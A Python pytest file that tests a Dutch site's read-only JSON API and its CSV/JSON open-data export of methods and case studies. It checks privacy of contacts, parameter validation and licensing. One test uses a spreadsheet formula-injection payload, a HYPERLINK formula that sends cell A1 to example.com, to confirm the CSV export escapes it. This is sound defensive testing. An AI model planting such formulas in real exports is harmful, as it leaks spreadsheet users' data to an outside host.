"""The read-only JSON API and the CSV/JSON export of methods and case studies."""

import csv
import io
import json

import pytest

API = "/api/v2/"


def api(client, path, **params):
    response = client.get(API + path, params)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "application/json"
    return response.json()


def test_pages_endpoint_lists_only_live_public_methods_and_case_studies(client, content):
    data = api(client, "pages/", limit=50)
    titles = {item["title"] for item in data["items"]}
    assert titles == {
        "Samen in de Wijk",
        "Alle Kleuren",
        "Alliantie in Rotterdam",
        "Jongeren in Rotterdam",
    }
    assert data["meta"]["total_count"] == 4


def test_an_editor_logged_in_gets_no_private_page_from_the_api(client, content, django_user_model):
    editor = django_user_model.objects.create_superuser("editor", "e@example.org", "x")
    client.force_login(editor)
    titles = {item["title"] for item in api(client, "pages/", limit=50)["items"]}
    assert "Besloten praktijkvoorbeeld" not in titles
    assert "Geheime methode in concept" not in titles
    assert client.get(f"{API}pages/{content['private'].pk}/").status_code == 404
    assert client.get(f"{API}pages/{content['draft'].pk}/").status_code == 404


def test_method_fields(client, content):
    data = api(client, "pages/", type="methods.MethodPage", fields="*", order="title")
    method = next(item for item in data["items"] if item["title"] == "Samen in de Wijk")
    assert method["intro"] == "Een veiligheidsalliantie met de wijkagent."
    assert [theme["name"] for theme in method["themes"]] == ["Veiligheid"]
    assert [group["slug"] for group in method["target_groups"]] == ["lhbti-inwoners"]
    assert method["evidence_level"] == "well_described"
    assert method["evidence_level_label"] == "Goed beschreven"
    assert method["owner_organisation"]["name"] == "Movisie"
    assert method["first_published"] == "2023-03-01"
    assert method["translation_key"] == str(content["alliance"].translation_key)
    assert method["meta"]["html_url"] == "http://testserver/nl/methoden/samen-in-de-wijk/"
    assert method["meta"]["locale"] == "nl"
    assert "contact_email" not in method


def test_case_study_fields_leave_out_the_peer_contact(client, content):
    case = api(client, f"pages/{content['in_rotterdam'].pk}/")
    assert case["municipality"]["name"] == "Rotterdam"
    assert case["method"]["title"] == "Samen in de Wijk"
    assert case["method"]["translation_key"] == str(content["alliance"].translation_key)
    assert case["status"] == content["in_rotterdam"].status
    serialised = json.dumps(case)
    assert "Petra" not in serialised
    assert "petra@example.org" not in serialised


def test_taxonomy_endpoints(client, english_content, content):
    themes = api(client, "themes/", locale="nl", fields="description")
    assert {item["name"] for item in themes["items"]} == {"Veiligheid", "Inclusie"}
    english = api(client, "themes/", locale="en")
    assert [item["name"] for item in english["items"]] == ["EN Veiligheid"]
    assert english["items"][0]["meta"]["locale"] == "en"
    municipality = api(client, f"municipalities/{content['rotterdam'].pk}/")
    assert municipality["cbs_code"] == "GM0599"
    assert municipality["province"] == "zuid-holland"
    assert api(client, "target-groups/", locale="nl")["meta"]["total_count"] == 2
    assert api(client, "organisations/")["items"][0]["name"] == "Movisie"


@pytest.mark.parametrize(
    "query",
    [
        {"limit": "1000"},
        {"limit": "abc"},
        {"type": "casestudies.PracticeSubmission"},
        {"type": "bestaat.niet"},
        {"fields": "peer_contact_email"},
        {"fields": "((("},
        {"unknown": "1"},
        {"search": "wijk"},
        {"order": "nonsense"},
        {"offset": "-1"},
        {"offset": "²"},
        {"offset": "99999999999999999999999"},
        {"id": "99999999999999999999999"},
        {"type": "methods.MethodPage", "first_published": "binnenkort"},
        {"type": "methods.MethodPage", "themes": "abc"},
        {"locale": "nl", "title": "\x00"},
    ],
)
def test_bad_api_parameters_give_400(client, content, query):
    response = client.get(API + "pages/", query)
    assert response.status_code == 400, response.content[:300]
    assert "message" in response.json()


def test_api_filters_by_field_and_theme(client, content):
    data = api(client, "pages/", type="casestudies.CaseStudyPage", themes=content["safety"].pk)
    assert {item["title"] for item in data["items"]} == {
        "Alliantie in Rotterdam",
        "Jongeren in Rotterdam",
    }


def test_api_refuses_writes_and_unknown_objects_without_an_error(client, content):
    assert client.post(API + "pages/", {}).status_code == 405
    assert client.get(API + "themes/", {"locale": "xx"}).status_code == 400
    for path in ["pages/99999999999999999999999/", "pages/find/?id=abc", "themes/123456/"]:
        response = client.get(API + path)
        assert response.status_code == 404, path
        assert "message" in response.json()


def export_rows(client, language="nl"):
    response = client.get(f"/{language}/open-data/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Link"] == '<https://creativecommons.org/licenses/by/4.0/>; rel="license"'
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_rows_and_columns(client, content):
    rows = export_rows(client)
    assert [row["title"] for row in rows] == [
        "Alle Kleuren",
        "Samen in de Wijk",
        "Alliantie in Rotterdam",
        "Jongeren in Rotterdam",
    ]
    case = rows[2]
    assert case["type"] == "praktijkvoorbeeld"
    assert case["municipality_cbs_code"] == "GM0599"
    assert case["method_id"] == rows[1]["id"]
    assert case["themes"] == "Veiligheid"
    assert case["url"] == "http://testserver/nl/praktijkvoorbeelden/alliantie-in-rotterdam/"
    assert "peer_contact_email" not in case
    assert "Petra" not in json.dumps(rows)


def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_kept_as_text(client, content):
    method = content["alliance"]
    method.title = '=HYPERLINK("http://example.com/?"&A1, "Meer")'
    method.intro = "-2 jaar looptijd, +1 wijk"
    method.save_revision().publish()
    rows = {row["id"]: row for row in export_rows(client)}
    json_rows = {
        row["id"]: row for row in client.get("/nl/open-data/export.json").json()["records"]
    }
    [method_id] = [pk for pk, row in json_rows.items() if row["title"].startswith("=HYPERLINK")]
    assert rows[method_id]["title"] == "'" + method.title
    assert rows[method_id]["intro"] == "'" + method.intro
    # The JSON export is data, not a spreadsheet: it keeps the text exactly.
    assert json_rows[method_id]["title"] == method.title
    assert rows[method_id]["type"] == "methode"


def test_export_ids_stay_the_same_after_an_edit_and_a_new_slug(client, content):
    before = {row["title"]: row["id"] for row in export_rows(client)}
    method = content["alliance"]
    method.title = "Samen in de Buurt"
    method.slug = "samen-in-de-buurt"
    method.save_revision().publish()
    after = {row["title"]: row["id"] for row in export_rows(client)}
    assert after["Samen in de Buurt"] == before["Samen in de Wijk"]
    assert after["Alliantie in Rotterdam"] == before["Alliantie in Rotterdam"]


def test_json_export_has_licence_and_records(client, english_content, content):
    response = client.get("/en/open-data/export.json")
    assert response.status_code == 200
    assert response["Link"].endswith('rel="license"')
    data = response.json()
    assert data["licence"] == {
        "name": "CC BY 4.0",
        "url": "https://creativecommons.org/licenses/by/4.0/",
    }
    assert data["language"] == "en"
    # Only the published English method; the Dutch export holds the same id for it.
    assert [record["title"] for record in data["records"]] == ["EN Samen in de Wijk"]
    assert data["records"][0]["id"] == str(content["alliance"].translation_key)
    assert data["records"][0]["themes"] == ["EN Veiligheid"]


def test_open_data_page_explains_everything_and_is_linked_from_the_footer(client, content):
    response = client.get("/nl/open-data/")
    html = response.content.decode()
    assert response.status_code == 200
    assert '<h1 class="page-header__title">Open data</h1>' in html
    for link in [
        'href="/nl/open-data/export.csv"',
        'href="/nl/open-data/export.json"',
        'href="/nl/feeds/methode/"',
        'rel="license"',
        "http://testserver/api/v2/",
        "http://testserver/sitemap.xml",
    ]:
        assert link in html
    assert '<a href="/nl/open-data/">Open data</a>' in client.get("/nl/").content.decode()


def test_open_data_page_in_english(client, english_content):
    html = client.get("/en/open-data/").content.decode()
    assert '<html lang="en">' in html
    assert "Downloads" in html
    assert "Licence" in html
    assert "Licentie" not in html


def test_an_unpublished_method_is_not_named_by_its_case_study(client, content):
    content["colours"].unpublish()
    case = api(client, f"pages/{content['youth_case'].pk}/")
    assert case["method"] is None
    row = next(row for row in export_rows(client) if row["title"] == "Jongeren in Rotterdam")
    assert row["method_id"] == ""
    assert row["method_title"] == ""
